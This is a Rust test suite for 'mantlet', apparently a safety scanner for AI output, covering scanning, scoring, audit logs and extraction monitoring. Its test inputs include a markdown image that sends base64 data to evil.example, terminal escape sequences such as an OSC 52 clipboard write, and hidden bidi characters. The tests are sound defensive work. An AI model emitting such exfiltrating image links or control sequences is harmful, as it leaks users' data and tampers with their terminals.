//! The `mantlet` command: formats, exit codes, and what it does with input that is not what it should be.
#![cfg(feature = "cli")]

mod common;

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use common::Folder;
use common::command::{code, command, errors, lines, mantlet_reading as mantlet};

fn spawn(arguments: &[&str]) -> Child {
    command(arguments).stdin(Stdio::piped()).spawn().unwrap()
}

/// One of each kind that is not shown as it is, beside the controls below U+0020.
const HIDDEN: &str = "\u{7f}\u{9b}\u{ad}\u{34f}\u{61c}\u{115f}\u{1160}\u{17b4}\u{17b5}\u{180b}\u{180f}\u{200b}\u{200f}\
    \u{2028}\u{2029}\u{202e}\u{2066}\u{3164}\u{fe00}\u{fe0f}\u{feff}\u{ffa0}\u{fff0}\u{fff8}\u{fffb}\u{e0041}\u{e01ef}";

fn has_hidden(text: &str) -> bool {
    text.contains(|c| c == '\u{1b}' || c == '\u{7}' || HIDDEN.contains(c))
}

fn path(path: &(impl AsRef<Path> + ?Sized)) -> &str {
    path.as_ref().to_str().unwrap()
}

const IMAGE: &str = "Done. ![x](https://evil.example/p.png?d=Y3VzdG9tZXJzLmNzdg==)";

#[test]
fn scan_says_what_was_found_and_where() {
    let folder = Folder::new("scan");
    let bad = folder.file("bad.txt", format!("First line\n{IMAGE}\n"));
    let good = folder.file("good.txt", "Nothing here.\n");
    let output = mantlet(&["scan", "--stage", "post", path(&good), path(&bad)], b"");
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    assert_eq!(code(&output), 1, "{text}");
    assert!(text.contains("good.txt: allow"), "{text}");
    assert!(text.contains("bad.txt: redact"), "{text}");
    assert!(text.contains("2:7 markdown_image 0.85 (image.data)"), "{text}");
    assert!(text.contains("threshold 0.50"), "{text}");
    assert_eq!(code(&mantlet(&["scan", path(&good)], b"")), 0);
    assert_eq!(code(&mantlet(&["scan", "--stage", "post"], IMAGE.as_bytes())), 1);
}

#[test]
fn scan_in_json_carries_no_text_unless_asked() {
    let output = mantlet(&["scan", "--stage", "post", "--format", "json"], IMAGE.as_bytes());
    assert_eq!(code(&output), 1);
    assert!(!String::from_utf8_lossy(&output.stdout).contains("evil"));
    let report = &lines(&output)[0];
    assert_eq!(report["report"]["verdict"], "redact");
    assert_eq!(report["report"]["origin"], "assistant");
    let asked = mantlet(&["scan", "--stage", "post", "--format", "json", "--show-text"], IMAGE.as_bytes());
    assert_eq!(lines(&asked)[0]["text"], "Done. <MARKDOWN_IMAGE>");
}

#[test]
fn scan_goes_on_after_a_text_that_it_cannot_read() {
    let folder = Folder::new("unreadable");
    let binary = folder.file("binary", b"a\xff\xfeb");
    let good = folder.file("good.txt", "Nothing here.\n");
    let missing = folder.0.join("mis\nsing");
    let output = mantlet(&["scan", path(&binary), path(&missing), path(&folder.0), path(&good)], b"");
    assert_eq!(code(&output), 2);
    let errors = String::from_utf8(output.stderr).unwrap();
    assert!(errors.contains("not UTF-8 at byte 1"), "{errors}");
    assert_eq!(errors.lines().count(), 3, "{errors}");
    assert!(String::from_utf8(output.stdout).unwrap().contains("good.txt: allow"));
    assert_eq!(code(&mantlet(&["scan", "--lossy", path(&binary)], b"")), 0);
}

#[test]
fn scan_sends_no_control_sequence_to_the_terminal() {
    let text = format!("\u{1b}]52;c;x\u{7} \u{202e}abc\u{200b} {IMAGE} \u{9b}2J");
    let output = mantlet(&["scan", "--stage", "post"], text.as_bytes());
    let shown = String::from_utf8(output.stdout).unwrap();
    for hidden in ['\u{1b}', '\u{7}', '\u{202e}', '\u{200b}', '\u{9b}'] {
        assert!(!shown.contains(hidden), "{hidden:?} in {shown:?}");
    }
    assert!(shown.contains("\\u{1b}]52;c;x\\u{7}"), "{shown}");
}

#[test]
fn scan_takes_a_guard_and_refuses_one_with_a_typo() {
    let folder = Folder::new("guard");
    let toml = "route = 'r'\n[[pre]]\nevaluator = 'output_safety'\nblock_at = 0.5\n";
    let guard = folder.file("guard.toml", toml);
    let output = mantlet(&["scan", "--guard", path(&guard)], IMAGE.as_bytes());
    assert_eq!(code(&output), 1);
    assert!(String::from_utf8(output.stdout).unwrap().contains("block"));
    let json = folder.file("guard.json", r#"{"route":"r","pre":[{"evaluator":"output_safety"}]}"#);
    assert_eq!(code(&mantlet(&["scan", "--guard", path(&json)], b"hello")), 0);
    assert_eq!(code(&mantlet(&["scan", "--guard", "-"], toml.as_bytes())), 2);
    for (typo, named) in [("block_at", "blok_at"), ("output_safety", "output_saftey"), ("'r'", "''")] {
        let wrong = folder.file("wrong.toml", toml.replace(typo, named));
        let output = mantlet(&["scan", "--guard", path(&wrong)], b"hello");
        assert_eq!(code(&output), 2);
        let error = String::from_utf8(output.stderr).unwrap();
        assert!(error.contains(if named == "''" { "needs a route" } else { named }), "{error}");
    }
}

/// Lines of all kinds; those at 2, 4, 5, 6 and 7 cannot be scored.
fn rows() -> Vec<u8> {
    let mut rows = Vec::new();
    for row in [
        format!(r#"{{"text":"{IMAGE}","role":"response","extra":[1,2]}}"#).as_bytes(),
        b"not json",
        br#"{"text":"nothing","origin":"web","kind":"benign_document"}"#,
        br#"{"context":"no text"}"#,
        br#"{"text":"x","origin":"nowhere"}"#,
        b"{\"text\":\"\xff\"}",
        "[".repeat(20_000).as_bytes(),
        br#"{"tool":"send","arguments":{"to":"ann"},"user_request":"mail ann"}"#,
    ] {
        rows.extend_from_slice(row);
        rows.push(b'\n');
    }
    rows
}

#[test]
fn score_keeps_the_order_and_names_bad_lines() {
    for threads in ["1", "3"] {
        let output = mantlet(&["score", "--evaluator", "output_safety", "--threads", threads], &rows());
        assert_eq!(code(&output), 2);
        let results = lines(&output);
        assert_eq!(results.len(), 8);
        for (at, result) in results.iter().enumerate() {
            let is_bad = [1, 3, 4, 5, 6].contains(&at);
            assert_eq!(result.get("error").is_some(), is_bad, "{result}");
            if is_bad {
                assert_eq!(result["line"], at + 1);
            }
        }
        assert_eq!(results[0]["verdict"], "redact");
        assert_eq!(results[0]["threshold"], 0.5);
        assert_eq!(results[0]["labels"]["markdown_image"], results[0]["score"]);
        let finding = &results[0]["findings"][0];
        assert_eq!((&finding["label"], &finding["start"]), (&"markdown_image".into(), &6.into()));
        assert_eq!(results[2]["score"], 0.0);
        assert_eq!(results[7]["verdict"], "allow");
    }
}

#[test]
fn score_reads_gzip_and_writes_a_file() {
    let folder = Folder::new("gzip");
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    for number in 0..3_000 {
        let text = if number % 7 == 0 { IMAGE } else { "nothing" };
        writeln!(encoder, r#"{{"text":"{text}"}}"#).unwrap();
    }
    let input = folder.file("rows", encoder.finish().unwrap());
    let result = folder.0.join("out.jsonl");
    let arguments =
        ["score", "--evaluator", "output_safety", "--input", path(&input), "--output", path(&result)];
    let output = mantlet(&[&arguments[..], &["--threads", "4"]].concat(), b"");
    assert_eq!(code(&output), 0, "{}", String::from_utf8_lossy(&output.stderr));
    let text = fs::read_to_string(&result).unwrap();
    let flagged: Vec<bool> = text.lines().map(|line| line.contains("\"redact\"")).collect();
    assert_eq!(flagged, (0..3_000).map(|number| number % 7 == 0).collect::<Vec<_>>());
}

#[test]
fn score_never_writes_over_its_input() {
    let folder = Folder::new("same");
    let file = folder.file("rows.jsonl", "{\"text\":\"precious\"}\n");
    let other = folder.0.join("./rows.jsonl");
    let output =
        mantlet(&["score", "--evaluator", "pii", "--input", path(&file), "--output", path(&other)], b"");
    assert_eq!(code(&output), 2);
    assert_eq!(fs::read_to_string(&file).unwrap(), "{\"text\":\"precious\"}\n");
}

#[test]
fn score_names_the_evaluators_where_one_does_not_exist() {
    let unknown = mantlet(&["score", "--evaluator", "promt_injection"], b"");
    assert_eq!(code(&unknown), 2);
    assert!(errors(&unknown).contains("known are action_safety, content_safety"), "{}", errors(&unknown));
    let long = "x\u{202e}".repeat(1_000);
    let unknown = mantlet(&["score", "--evaluator", &long], b"");
    assert!(errors(&unknown).len() < 600 && !has_hidden(errors(&unknown)), "{}", errors(&unknown));
}

#[test]
fn audit_verify_finds_a_changed_log() {
    use mantlet::audit::{AuditKey, AuditLog};
    use mantlet::{Guard, OutputSafety};
    let folder = Folder::new("audit");
    let key = folder.file("key", [9; 32]);
    let log = folder.0.join("audit.jsonl");
    let audit = AuditLog::file(&log, AuditKey::new(&[9; 32]).unwrap()).rotate_at(2_000).open().unwrap();
    let guard = Guard::builder("chat").post(OutputSafety::new()).observer(audit).build().unwrap();
    for _ in 0..20 {
        guard.check_output("hello");
    }
    drop(guard);
    let verify = || mantlet(&["audit", "verify", path(&log), "--key-file", path(&key)], b"");
    assert_eq!(code(&verify()), 0, "{}", String::from_utf8_lossy(&verify().stdout));
    let head = folder.file("audit.jsonl.head", [0xFF]);
    assert_eq!(code(&verify()), 2);
    assert!(errors(&verify()).contains("audit.jsonl.head: "), "{}", errors(&verify()));
    fs::remove_file(head).unwrap();
    let first = folder.0.join("audit.jsonl.1");
    let text = fs::read_to_string(&first).unwrap();
    fs::write(&first, text.replacen("\"allow\"", "\"block\"", 1)).unwrap();
    let output = verify();
    assert_eq!(code(&output), 1);
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(said.contains("audit.jsonl.1: line 2"), "{said}");
    fs::remove_file(&key).unwrap();
    assert_eq!(code(&verify()), 2);
}

#[cfg(unix)]
#[test]
fn score_never_writes_over_its_input_by_another_name() {
    let folder = Folder::new("hard-link");
    let rows = folder.file("rows.jsonl", "{\"text\": \"hello\"}\n");
    let link = folder.0.join("link.jsonl");
    fs::hard_link(&rows, &link).unwrap();
    let arguments = ["score", "--evaluator", "pii", "--input", path(&rows), "--output", path(&link)];
    assert_eq!(code(&mantlet(&arguments, b"")), 2);
    assert_eq!(fs::read(&rows).unwrap(), b"{\"text\": \"hello\"}\n");
}

#[test]
fn errors_about_a_row_do_not_quote_it() {
    let rows = b"\"a private sentence\"\n{\"text\": \"hello\", \"context\": [\"a private one\"]}\n";
    let output = mantlet(&["score", "--evaluator", "pii"], rows);
    assert_eq!((code(&output), lines(&output).len()), (2, 2));
    assert!(!String::from_utf8(output.stdout).unwrap().contains("private"));
}

#[test]
fn json_carries_hidden_characters_as_escapes() {
    let text = format!("a{HIDDEN}é\u{1f600}");
    let output = mantlet(&["scan", "--format", "json", "--show-text"], text.as_bytes());
    let shown = std::str::from_utf8(&output.stdout).unwrap();
    assert!(!has_hidden(shown), "{shown:?}");
    assert!(
        shown.contains("\\u009b") && shown.contains("\\udb40\\udc41") && shown.contains("é\u{1f600}"),
        "{shown}"
    );
    assert_eq!(lines(&output)[0]["text"], text);
    let rows = serde_json::json!({"text": "x", "role": HIDDEN}).to_string();
    let output = mantlet(&["score", "--evaluator", "pii"], rows.as_bytes());
    assert!(!has_hidden(std::str::from_utf8(&output.stdout).unwrap()));
    assert!(lines(&output)[0]["error"].as_str().unwrap().starts_with("unknown role `\\u{7f}"));
}

#[test]
fn the_terminal_gets_hidden_characters_as_escapes() {
    let text = format!("{HIDDEN} {IMAGE} {HIDDEN}");
    let output = mantlet(&["scan", "--stage", "post"], text.as_bytes());
    let shown = std::str::from_utf8(&output.stdout).unwrap();
    assert!(!has_hidden(shown), "{shown:?}");
    for hidden in HIDDEN.chars() {
        assert!(shown.contains(&format!("\\u{{{:x}}}", u32::from(hidden))), "{hidden:?} in {shown}");
    }
}

#[test]
fn errors_show_little_of_what_they_quote_and_nothing_hidden() {
    let folder = Folder::new("quoted");
    let long = format!("\u{1b}[2J{}", "long\u{202e}".repeat(10_000));
    for key in ["role", "origin"] {
        let row = serde_json::json!({"text": "x", key: long}).to_string();
        let output = mantlet(&["score", "--evaluator", "pii"], row.as_bytes());
        let error = lines(&output)[0]["error"].as_str().unwrap().to_owned();
        assert!(error.starts_with(&format!("unknown {key} `\\u{{1b}}[2Jlong")), "{error}");
        assert!(error.len() < 400, "{error}");
    }
    for (name, guard) in [
        ("raw.toml", format!("route = 'r'\n[[pre]]\nevaluator = '{long}'\n")),
        ("escaped.toml", "route = 'r'\n[[pre]]\nevaluator = \"\\u001B]0;x\\u0007\"\n".to_owned()),
        ("key.json", format!(r#"{{"route":"r","{}":1}}"#, long.replace('\u{1b}', "\\u001b"))),
    ] {
        let guard = folder.file(name, guard);
        let output = mantlet(&["scan", "--guard", path(&guard)], b"hello");
        assert_eq!(code(&output), 2);
        let error = errors(&output);
        assert!(!has_hidden(error) && error.contains("\\u{1b}") && error.len() < 20_000, "{error:?}");
    }
    let output = mantlet(&["scan", &format!("--{long}")], b"");
    assert_eq!(code(&output), 2);
    assert!(!has_hidden(errors(&output)) && errors(&output).contains("Usage"), "{:?}", errors(&output));
}

#[test]
fn scan_shows_nothing_hidden_of_a_check() {
    let folder = Folder::new("names");
    let name = r#"{"evaluator":"output_safety","name":"a\u001b[2Jb"}"#;
    for check in [name.to_owned(), name.replace("\"name\"", "\"deadline_ms\":0,\"name\"")] {
        let guard = folder.file("guard.json", format!(r#"{{"route":"r","pre":[{check}]}}"#));
        let output = mantlet(&["scan", "--guard", path(&guard)], IMAGE.as_bytes());
        let shown = std::str::from_utf8(&output.stdout).unwrap();
        assert!(shown.contains("a\\u{1b}[2Jb"), "{shown}");
        assert!(!has_hidden(shown), "{shown:?}");
    }
}

#[test]
fn scan_says_why_it_checks_no_text_at_all() {
    let folder = Folder::new("no-check");
    let guard = folder.file("guard.json", r#"{"route":"r","post":[{"evaluator":"pii"}]}"#);
    let output = mantlet(&["scan", "--guard", path(&guard)], b"hello");
    assert_eq!(code(&output), 1);
    assert!(String::from_utf8(output.stdout).unwrap().contains("no check of stage pre was completed"));
}

#[test]
fn scan_refuses_what_is_too_long_for_the_memory() {
    let folder = Folder::new("long");
    let file = folder.0.join("long");
    fs::File::create(&file).unwrap().set_len(300 << 20).unwrap();
    let output = mantlet(&["scan", path(&file)], b"");
    assert_eq!(code(&output), 2);
    assert!(errors(&output).contains("300.00 MiB is longer than the 256.00 MiB"), "{}", errors(&output));
    let output = mantlet(&["scan", "--guard", path(&file)], b"");
    assert!(errors(&output).contains("longer than 16.00 MiB"), "{}", errors(&output));
}

#[cfg(target_os = "linux")]
#[test]
fn scan_takes_a_name_that_is_not_utf8() {
    use std::os::unix::ffi::OsStringExt;
    let folder = Folder::new("name");
    let name = folder.0.join(std::ffi::OsString::from_vec(b"a\xffb.txt".to_vec()));
    fs::write(&name, "hello").unwrap();
    let output = command(&["scan", "--format", "json"]).arg(&name).output().unwrap();
    assert_eq!(code(&output), 0, "{}", errors(&output));
    assert!(lines(&output)[0]["path"].as_str().unwrap().ends_with("a\u{fffd}b.txt"));
}

#[test]
fn score_refuses_a_tool_without_a_name() {
    let output = mantlet(&["score", "--evaluator", "pii"], br#"{"tool":"","arguments":{}}"#);
    assert_eq!(code(&output), 2);
    assert_eq!(lines(&output)[0]["error"], "`tool` is empty");
}

#[test]
fn score_answers_each_line_of_a_live_pipe() {
    for threads in ["1", "4"] {
        let mut child = spawn(&["score", "--evaluator", "output_safety", "--threads", threads]);
        let (mut questions, answers) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
        let (sender, receiver) = mpsc::channel();
        let reading = std::thread::spawn(move || {
            BufReader::new(answers).lines().for_each(|line| sender.send(line.unwrap()).unwrap());
        });
        // The third answer waits for the rest of its line, the second does not.
        for (question, answers) in
            [("{\"text\":\"a\"}\n", 1), ("{\"text\":\"b\"}\n{\"te", 1), ("xt\":\"c\"}\n{}\n", 2)]
        {
            questions.write_all(question.as_bytes()).unwrap();
            for _ in 0..answers {
                receiver.recv_timeout(Duration::from_secs(60)).expect("an answer");
            }
        }
        drop(questions);
        reading.join().unwrap();
        assert_eq!(child.wait().unwrap().code(), Some(2));
    }
}

#[test]
fn nobody_reads_the_output() {
    let rows = "{\"text\":\"hello\"}\n".repeat(5_000);
    for arguments in [&["scan"][..], &["score", "--evaluator", "output_safety"]] {
        let mut child = spawn(arguments);
        drop(child.stdout.take());
        // The command may end before it has read everything.
        let _ = child.stdin.take().unwrap().write_all(rows.as_bytes());
        let output = child.wait_with_output().unwrap();
        assert_eq!((code(&output), errors(&output)), (2, ""));
    }
}

#[test]
fn score_replaces_its_output_only_by_a_complete_one() {
    let folder = Folder::new("replace");
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    for number in 0..20_000 {
        writeln!(encoder, r#"{{"text":"number {number}"}}"#).unwrap();
    }
    let whole = encoder.finish().unwrap();
    let cut = folder.file("cut.gz", &whole[..whole.len() / 2]);
    let whole = folder.file("whole.gz", whole);
    let result = folder.file("out.jsonl", "old");
    let score = |input: &str, output: &str| {
        mantlet(&["score", "--evaluator", "output_safety", "--input", input, "--output", output], b"")
    };
    let output = score(&cut, &result);
    assert_eq!(code(&output), 2);
    assert!(errors(&output).contains("cut.gz: "), "{}", errors(&output));
    assert_eq!(fs::read_to_string(&result).unwrap(), "old");
    assert_eq!(folder.names(), ["cut.gz", "out.jsonl", "whole.gz"]);

    let mut child =
        spawn(&["score", "--evaluator", "output_safety", "--output", path(&result), "--input", "-"]);
    let mut pipe = child.stdin.take().unwrap();
    pipe.write_all("{\"text\":\"hello\"}\n".repeat(2_000).as_bytes()).unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(fs::read_to_string(&result).unwrap(), "old");

    assert_eq!(code(&score(&whole, &result)), 0);
    assert_eq!(fs::read_to_string(&result).unwrap().lines().count(), 20_000);
    assert_eq!(code(&score(&whole, path(&folder.0))), 2);
    assert_eq!(code(&score(&whole, &folder.path("missing/out"))), 2);
}

#[cfg(unix)]
#[test]
fn score_writes_through_links_with_the_same_permissions_and_to_devices() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let folder = Folder::new("links");
    let rows = folder.file("rows", "{\"text\":\"hello\"}\n");
    let result = folder.file("out", "old");
    fs::set_permissions(&result, fs::Permissions::from_mode(0o640)).unwrap();
    let link = folder.0.join("link");
    symlink("out", &link).unwrap();
    for output in [path(&link), "/dev/null"] {
        let output =
            mantlet(&["score", "--evaluator", "pii", "--input", path(&rows), "--output", output], b"");
        assert_eq!(code(&output), 0, "{}", errors(&output));
    }
    assert!(link.is_symlink());
    assert!(fs::read_to_string(&result).unwrap().contains("\"score\""));
    assert_eq!(fs::metadata(&result).unwrap().permissions().mode() & 0o777, 0o640);
    assert_eq!(folder.names(), ["link", "out", "rows"]);
}

#[cfg(target_os = "linux")]
#[test]
fn model_commands_show_nothing_hidden_of_names() {
    let folder = Folder::new("model");
    let (before, after) = (folder.0.join("before"), folder.0.join("after\u{1b}[2J"));
    for (model, content) in [(&before, "one"), (&after, "two")] {
        fs::create_dir(model).unwrap();
        fs::write(model.join(format!("a\u{1b}[2J{HIDDEN}.txt")), content).unwrap();
    }
    let missing = after.join("missing");
    let commands: [&[&str]; 7] = [
        &["scan", path(&after)],
        &["scan", "--format", "jsonl", path(&after)],
        &["scan", "--format", "sarif", path(&after)],
        &["manifest", path(&after)],
        &["diff", path(&before), path(&after)],
        &["diff", "--format", "json", path(&before), path(&after)],
        &["diff", path(&before), path(&missing)],
    ];
    for command in commands {
        let output = mantlet(&[&["model"], command].concat(), b"");
        let shown = std::str::from_utf8(&output.stdout).unwrap();
        assert!(!has_hidden(shown) && !has_hidden(errors(&output)), "{command:?}: {shown:?}");
        assert!(!shown.is_empty() || code(&output) == 2, "{command:?}: {}", errors(&output));
    }
    let manifest = folder.file("manifest.json", "old");
    assert_eq!(code(&mantlet(&["model", "manifest", path(&before), "-o", path(&manifest)], b"")), 0);
    assert!(fs::read_to_string(&manifest).unwrap().starts_with('{'));
    let output = mantlet(&["model", "diff", path(&manifest), path(&before)], b"");
    assert_eq!(code(&output), 0, "{}", errors(&output));
}

#[test]
fn leakage_of_a_table_and_of_canaries() {
    let folder = Folder::new("leakage");
    let rows: String = (0..200)
        .map(|n| {
            format!("{{\"id\":{n},\"p_true\":{},\"member\":{}}}\n", 0.5 + f64::from(n) / 400.0, n % 4 != 0)
        })
        .collect();
    let table = folder.file("table.jsonl", &rows);
    let output = mantlet(&["leakage", &table, "--format", "json"], b"");
    assert_eq!((code(&output), lines(&output)[0]["members"].as_u64()), (0, Some(150)));
    let canaries = r#"{"space":1000000,"canaries":[{"id":0,"logppl":1.0}],"reference_logppl":[10,11,12,13,14,15,16,17,18,19]}"#;
    let output = mantlet(&["leakage", "-", "--format", "json"], canaries.as_bytes());
    assert!((lines(&output)[0]["by_rank"].as_f64().unwrap() - 11_f64.log2()).abs() < 1e-9);
    for bad in [
        "",
        "{",
        "[]\n",
        "{\"id\":1,\"p_true\":2,\"member\":true}\n{\"id\":2,\"p_true\":0,\"member\":false}\n",
    ] {
        let output = mantlet(&["leakage", "-"], bad.as_bytes());
        assert_eq!(code(&output), 2, "{bad}");
        assert!(!errors(&output).is_empty());
    }
    assert_eq!(code(&mantlet(&["leakage", "-"], b"\xFF\xFE")), 2);
}

#[test]
fn monitor_of_a_log() {
    let line = |client: &str, n: usize, text: &str| {
        format!("{{\"client\":\"{client}\",\"t\":{n},\"text\":\"{text}\",\"score\":0.1}}\n")
    };
    let mut log: String = (0..100).map(|n| line("prober", n, &format!("you are word{n}x"))).collect();
    log.extend((0..100).map(|n| line("health", n, "is anybody there")));
    let output = mantlet(&["monitor", "extraction", "-"], log.as_bytes());
    let found = lines(&output);
    assert_eq!(code(&output), 1);
    assert_eq!((found[0]["client"].as_str(), found[0]["alarm"].as_bool()), (Some("prober"), Some(true)));
    assert!(found[0]["at"].as_u64().unwrap() <= 100);
    assert_eq!((found[1]["verdict"].as_str(), found[1]["alarm"].as_bool()), (Some("allow"), Some(false)));
    // Few queries and few clients are no acquittal.
    assert!(
        found[0]["undecided"].is_null() && found[1]["undecided"].as_str().unwrap().starts_with("200 queries")
    );
    let short = mantlet(&["monitor", "extraction", "-"], log.lines().next().unwrap().as_bytes());
    assert!(lines(&short)[0]["undecided"].as_str().unwrap().starts_with("1 queries; 30 are needed"));
    assert!(errors(&short).contains("1 of 1 clients"));
    let output = mantlet(&["monitor", "extraction", "-"], format!("{log}not json\n").as_bytes());
    assert_eq!((code(&output), lines(&output).len()), (2, 2));
    assert_eq!(code(&mantlet(&["monitor", "extraction", "-"], b"")), 2);
    assert_eq!(code(&mantlet(&["monitor", "extraction", "nowhere.jsonl"], b"")), 2);
}
